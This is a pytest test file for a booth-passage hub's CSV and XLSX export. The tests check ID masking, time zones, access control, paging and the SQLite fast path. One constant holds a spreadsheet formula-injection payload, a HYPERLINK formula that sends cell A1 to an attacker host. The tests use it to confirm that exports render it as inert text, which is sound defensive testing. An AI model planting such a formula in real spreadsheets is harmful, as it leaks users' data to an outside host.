"""The office downloads all booths' passages as a booth's CSV/XLSX export (SQLite, PostgreSQL)."""

from __future__ import annotations

import csv
import io
import itertools
import json
import sqlite3
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Mapping, Sequence
from datetime import timedelta
from email.message import Message
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from gatehouse.core.chain import canonical_json
from gatehouse.core.china_time import CHINA_TIME
from gatehouse.core.models import Outcome
from gatehouse.core.passage import Passage
from gatehouse.core.reasons import reason
from gatehouse.hub.exports import all_passages, as_row, export_passages, plain_record_cells
from gatehouse.hub.service import Hub, PassageQuery
from gatehouse.hub.sqlite_export import sqlite_cells, sqlite_pages
from gatehouse.hub.sqlite_pages import page_cells
from gatehouse.hub.tables import iso, passages
from gatehouse.reports.cells import Cell, IdNumbers, safe_cell
from gatehouse.reports.columns import passage_columns
from gatehouse.reports.table import write_table
from gatehouse.store import Ledger
from gatehouse.sync import protocol
from gatehouse.sync.client import HubClient
from tests.factories import make_passage
from tests.hub.live import ADMIN_TOKEN
from tests.hub.test_api import START, _enrolled_client, _items

EVIL_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点我 click")'
ID_COLUMN = "证件号 ID number"
NAME_COLUMN = "姓名 Name"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _upload(hub_url: str, tmp_path: Path, booth_id: str, passages: list[Passage]) -> None:
    ledger = Ledger.open(tmp_path / f"{booth_id}.sqlite3")
    try:
        for passage in passages:
            ledger.record(passage).result()
        results, _ = _enrolled_client(hub_url, booth_id).upload(_items(ledger))
    finally:
        ledger.close()
    assert [r["status"] for r in results] == [protocol.ACK] * len(passages)


def _two_booths(hub_url: str, tmp_path: Path) -> None:
    _upload(
        hub_url,
        tmp_path,
        "booth-01",
        [
            make_passage(booth_id="booth-01", decided_at=START, holder_name=EVIL_NAME),
            make_passage(
                booth_id="booth-01",
                decided_at=START + timedelta(minutes=1),
                outcome=Outcome.TURN_AWAY,
            ),
        ],
    )
    _upload(
        hub_url,
        tmp_path,
        "booth-02",
        [make_passage(booth_id="booth-02", decided_at=START + timedelta(minutes=2))],
    )


def _download(
    hub_url: str, fmt: str, token: str | None = ADMIN_TOKEN, **params: str
) -> tuple[bytes, Message]:
    url = hub_url + protocol.EXPORT_PATH.format(fmt=fmt)
    if params:
        url += "?" + urllib.parse.urlencode(params)
    request = urllib.request.Request(url)
    if token is not None:
        request.add_header("Authorization", f"Bearer {token}")
    with urllib.request.urlopen(request, timeout=30) as response:
        return response.read(), response.headers


def _refusal(hub_url: str, fmt: str, token: str | None = ADMIN_TOKEN, **params: str) -> int:
    with pytest.raises(urllib.error.HTTPError) as refused:
        _download(hub_url, fmt, token, **params)
    return refused.value.code


def test_csv_has_every_booths_passages_masked_and_neutralised(hub_url: str, tmp_path: Path) -> None:
    _two_booths(hub_url, tmp_path)

    body, headers = _download(hub_url, "csv", tz="Asia/Shanghai")

    assert headers["Content-Type"].startswith("text/csv")
    assert 'filename="passages-' in headers["Content-Disposition"]
    assert headers["Content-Disposition"].endswith('.csv"')
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM a Chinese Excel needs
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r["岗亭 Booth"] for r in rows] == ["booth-01", "booth-01", "booth-02"]
    assert rows[0]["时间 Time (UTC+08:00)"] == "2024-03-01 14:00:00"
    assert rows[0][NAME_COLUMN] == "'" + EVIL_NAME
    assert rows[1]["结果 Outcome"] == "劝返 turn away"
    assert {r[ID_COLUMN] for r in rows} == {"110101********1234"}


def test_xlsx_reads_back_with_the_formula_shown_as_text(hub_url: str, tmp_path: Path) -> None:
    _two_booths(hub_url, tmp_path)

    body, headers = _download(hub_url, "xlsx", booth_id="booth-01")

    assert headers["Content-Type"] == XLSX_TYPE
    assert headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    name, id_number = header.index(NAME_COLUMN), header.index(ID_COLUMN)
    assert len(rows) == 2
    assert rows[0][name] == "'" + EVIL_NAME  # text, not a live formula
    assert [r[id_number] for r in rows] == ["110101********1234"] * 2


def test_filters_are_the_json_searchs(hub_url: str, tmp_path: Path) -> None:
    _two_booths(hub_url, tmp_path)
    since = (START + timedelta(minutes=1)).isoformat()

    body, _ = _download(hub_url, "csv", outcome=Outcome.ADMIT.name, since=since)

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r["岗亭 Booth"] for r in rows] == ["booth-02"]


def test_only_the_office_downloads(hub_url: str) -> None:
    code = HubClient(hub_url, ADMIN_TOKEN).request(
        "POST", protocol.ENROLMENT_CODES_PATH, {"booth_id": "booth-03"}
    )
    booth_token, _ = HubClient(hub_url).enrol("booth-03", code.json()["code"])
    assert _refusal(hub_url, "csv", token=None) == 401
    assert _refusal(hub_url, "csv", token=booth_token) == 401
    assert _refusal(hub_url, "xlsx", token="x" * 30) == 401


def test_unknown_format_or_zone_is_refused(hub_url: str) -> None:
    assert _refusal(hub_url, "pdf") == 400
    assert _refusal(hub_url, "xlsx-openpyxl") == 400
    assert _refusal(hub_url, "csv", tz="Asia") == 400
    assert _refusal(hub_url, "csv", tz="Mars/Olympus") == 400


def test_export_pages_past_the_query_limit(hub: Hub, tmp_path: Path) -> None:
    """Pages of three; two passages at one instant straddle each page boundary."""
    minute = timedelta(minutes=1)
    moments = [START, START + minute, START + minute, START + 2 * minute, START + 2 * minute]
    moments += [START + 3 * minute, START + 4 * minute]
    ledger = Ledger.open(tmp_path / "paged.sqlite3")
    try:
        for moment in moments:
            ledger.record(make_passage(booth_id="booth-01", decided_at=moment)).result()
        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
        assert {r.status for r in hub.upload("booth-01", _items(ledger))} == {protocol.ACK}
    finally:
        ledger.close()

    paged = [row["passage_id"] for row in all_passages(hub, PassageQuery(limit=1), page=3)]

    assert paged == [p["passage_id"] for p in hub.passages(PassageQuery())]
    assert len(paged) == len(set(paged)) == len(moments)


def test_more_passages_at_one_instant_than_a_page_page_through(hub: Hub, tmp_path: Path) -> None:
    """Paged by (time, id): seven passages at one instant, pages of two, none lost or twice."""
    ledger = Ledger.open(tmp_path / "crowded.sqlite3")
    try:
        for _ in range(7):
            ledger.record(make_passage(booth_id="booth-01", decided_at=START)).result()
        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
        hub.upload("booth-01", _items(ledger))
    finally:
        ledger.close()

    paged = [row["passage_id"] for row in all_passages(hub, PassageQuery(), page=2)]

    assert paged == sorted(paged) and len(set(paged)) == 7


def test_records_with_json_values_export_like_ledger_rows() -> None:
    row = as_row({"reasons": [{"code": "T_HIGH"}], "evidence": {"a": "温"}, "outcome": "REFER"})
    assert row["reasons"] == '[{"code": "T_HIGH"}]'
    assert row["evidence"] == '{"a": "温"}'
    assert as_row({"reasons": "[]"})["reasons"] == "[]"


def test_csv_fast_path_writes_what_the_columns_write(hub: Hub, tmp_path: Path) -> None:
    """Plain records go out from their stored values, the others through the columns: the
    file is byte for byte the columns' own, and only the plain records took the shortcut."""
    minute = timedelta(minutes=1)
    revoked = reason("pass.revoked", pass_id="P-1")
    passages = [
        make_passage(decided_at=START),
        make_passage(decided_at=START + minute, outcome=Outcome.TURN_AWAY, reasons=(revoked,)),
        make_passage(decided_at=START + 2 * minute, holder_name=EVIL_NAME),
        make_passage(decided_at=START + 3 * minute, holder_name="张\x07伟"),
        make_passage(decided_at=START + 4 * minute, id_masked="110101199001011234"),
        make_passage(decided_at=START + 5 * minute, role="-1+1", temperature_c=None),
        make_passage(decided_at=START + 6 * minute, guard_id="g" * 40_000),
    ]
    ledger = Ledger.open(tmp_path / "mixed.sqlite3")
    try:
        for passage in passages:
            ledger.record(passage).result()
        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
        assert {r.status for r in hub.upload("booth-01", _items(ledger))} == {protocol.ACK}
    finally:
        ledger.close()
    now = START + timedelta(days=1)
    columns_path = tmp_path / "columns.csv"
    write_table(
        all_passages(hub, PassageQuery()),
        passage_columns(CHINA_TIME, IdNumbers.MASKED, now),
        columns_path,
        "csv",
    )

    done = export_passages(hub, PassageQuery(), "csv", CHINA_TIME, now)

    assert done.path.read_bytes() == columns_path.read_bytes()
    offset = timedelta(hours=8)
    plain = [plain_record_cells(r, offset) is not None for r in hub.passages(PassageQuery())]
    assert plain == [True, True, False, False, False, False, False]


def _odd_records(hub: Hub, tmp_path: Path) -> None:
    """One uploaded passage, then stored copies of it with what only a hub may hold: times in
    other shapes, reasons as a JSON list, numbers and arrays where text goes, escapes."""

    def changes(base: Mapping[str, Any]) -> list[dict[str, object]]:
        return [
            {"decided_at": "2026-03-01T02:03:04+00:00"},
            {"decided_at": "2026-03-01T02:03:04.999+00:00"},
            {"decided_at": "2026-03-01T23:59:59.999999+00:00"},
            {"decided_at": "2026-02-28T20:00:00.5+00:00"},
            {"reasons": json.loads(base["reasons"])},
            {"holder_name": "[临时] 张三"},
            {"holder_name": "{张三}"},
            {"holder_name": "张\x07三"},
            {"pass_id": 12345},
            {"role": ["visitor"]},
            {"temperature_c": 37},
            {"temperature_c": 36.55},  # not at one decimal: ``round`` changes it
            {"temperature_c": 38.149999},
            {"temperature_c": 1e300},
            {"temperature_c": None, "reasons": None},
        ]

    stored_copies(hub, tmp_path, changes, json.dumps)


def stored_copies(
    hub: Hub,
    tmp_path: Path,
    changes: Callable[[Mapping[str, Any]], Sequence[Mapping[str, object]]],
    dumps: Callable[[dict[str, object]], str],
) -> None:
    """One uploaded passage, then stored copies of it with ``changes(its record)``, each
    written as ``dumps`` writes it and named ``odd-NN`` in their order."""
    ledger = Ledger.open(tmp_path / "odd.sqlite3")
    try:
        revoked = reason("pass.revoked", pass_id="P-1")
        ledger.record(make_passage(decided_at=START, reasons=(revoked,))).result()
        hub.enrol("booth-01", hub.create_enrolment_code("booth-01"))
        assert {r.status for r in hub.upload("booth-01", _items(ledger))} == {protocol.ACK}
    finally:
        ledger.close()
    with hub.engine.begin() as conn:
        stored = dict(conn.execute(select(passages)).one()._mapping)
        base = json.loads(stored["record"])
        for number, change in enumerate(changes(base)):
            record = {**base, **change, "passage_id": f"odd-{number:02d}"}
            conn.execute(
                insert(passages).values(
                    {
                        **stored,
                        "passage_id": record["passage_id"],
                        "decided_at": str(record["decided_at"]),
                        "record": dumps(record),
                    }
                )
            )


def test_sqlite_export_computes_in_sql_what_the_columns_write(hub: Hub, tmp_path: Path) -> None:
    """The SQLite path (``hub.sqlite_export``) against the columns over every odd record, and
    its pages (of two, some sharing an instant) against one page."""
    if hub.engine.dialect.name != "sqlite":
        pytest.skip("the columns computed in SQL are SQLite's path")
    _odd_records(hub, tmp_path)
    now = START + timedelta(days=1)
    columns = passage_columns(CHINA_TIME, IdNumbers.MASKED, now)
    columns_path = tmp_path / "columns.csv"
    write_table(all_passages(hub, PassageQuery()), columns, columns_path, "csv")

    done = export_passages(hub, PassageQuery(), "csv", CHINA_TIME, now)

    assert done.path.read_bytes() == columns_path.read_bytes()

    def through_columns(record: Mapping[str, Any]) -> list[Cell]:
        return [safe_cell(c.value(as_row(record))) for c in columns]

    def cells(page: int) -> list[list[Cell]]:
        found = sqlite_cells(hub.engine, PassageQuery(), CHINA_TIME, through_columns, page)
        return [list(row) for row in found]

    assert cells(2) == cells(5000)
    assert len(cells(2)) == 16


# Values each of SQLite's tests or ``selected_cells``' join must send through the columns, and
# their near misses, which take the fast path: (change, whether it goes through the columns).
AWKWARD: list[tuple[dict[str, object], bool]] = [
    ({}, False),
    ({"pass_id": 0}, True),  # a number where text goes stops the join, even a false one
    ({"guard_id": False}, True),
    ({"holder_name": 1.5}, True),
    ({"outcome": "MAYBE"}, True),  # no words for it: NULL stops the join
    ({"outcome": None}, True),
    ({"holder_name": "＝1+1"}, True),
    ({"role": "-"}, True),
    ({"temperature_source": "\tpaper"}, True),
    ({"pass_id": "P,1"}, False),
    ({"holder_name": "a-b=c"}, False),
    ({"guard_id": ""}, False),
    ({"temperature_source": None, "guard_id": None}, False),
    ({"decided_at": "2026-03-01T02:03:04,123+00:00"}, True),  # a comma Python reads
    ({"decided_at": "2026-03-01T02:03:04.12+00:00"}, True),
    ({"decided_at": "2026-03-01T02:03:04.123456+01:00"}, True),
    ({"decided_at": "2026-03-01T02:03:04+00:00"}, False),
    ({"decided_at": "2026-03-01T02:03:04.123+00:00"}, False),
    ({"decided_at": "2026-03-01T02:03:04.123456+00:00"}, False),
    ({"id_masked": "110101199001011234"}, True),
]


def test_sqlite_export_sends_what_sql_or_the_join_doubts_through_the_columns(
    hub: Hub, tmp_path: Path
) -> None:
    """Each awkward value goes through the columns (and the file is theirs byte for byte);
    its near miss takes SQL's path."""
    if hub.engine.dialect.name != "sqlite":
        pytest.skip("the columns computed in SQL are SQLite's path")
    stored_copies(hub, tmp_path, lambda _: [change for change, _ in AWKWARD], canonical_json)
    now = START + timedelta(days=1)
    columns = passage_columns(CHINA_TIME, IdNumbers.MASKED, now)
    columns_path = tmp_path / "columns.csv"
    write_table(all_passages(hub, PassageQuery()), columns, columns_path, "csv")
    sent: list[str] = []

    def through_columns(record: Mapping[str, Any]) -> list[Cell]:
        sent.append(record["passage_id"])
        return [safe_cell(c.value(as_row(record))) for c in columns]

    list(sqlite_cells(hub.engine, PassageQuery(), CHINA_TIME, through_columns, 5000))
    done = export_passages(hub, PassageQuery(), "csv", CHINA_TIME, now)

    assert done.path.read_bytes() == columns_path.read_bytes()
    careful = {f"odd-{n:02d}" for n, (_, doubted) in enumerate(AWKWARD) if doubted}
    assert set(sent) == careful


def test_sqlite_pages_of_a_bounded_query_each_seek_to_their_start(hub: Hub, tmp_path: Path) -> None:
    """A query from a time on (as every office download is, ``hub.export_zone``) pages at one
    pace: SQLite seeks to the last page's key, not to the query's start, so the last page
    costs its first's (counted in SQLite's own steps, not in time)."""
    if hub.engine.dialect.name != "sqlite":
        pytest.skip("SQLite's index seek")
    moments = [START + timedelta(seconds=n) for n in range(3000)]
    stored_copies(
        hub, tmp_path, lambda _: [{"decided_at": iso(m)} for m in moments], canonical_json
    )
    query = PassageQuery(since=iso(moments[0]), until=iso(moments[-1] + timedelta(days=1)))
    page = 30
    pages = sqlite_pages(query, CHINA_TIME, page)
    steps = [0]

    def step() -> int:
        steps[0] += 1
        return 0

    with hub.engine.connect() as conn:
        raw = conn.connection.dbapi_connection
        assert isinstance(raw, sqlite3.Connection)
        raw.set_progress_handler(step, 100)
        seen = [
            steps[0]
            for n, _ in enumerate(page_cells(raw, pages, lambda record: []))
            if n % page == 0
        ]
        raw.set_progress_handler(None, 0)
    each = [after - before for before, after in itertools.pairwise(seen)]
    assert len(each) == 3000 // page
    assert each[-2] < 1.5 * each[1]
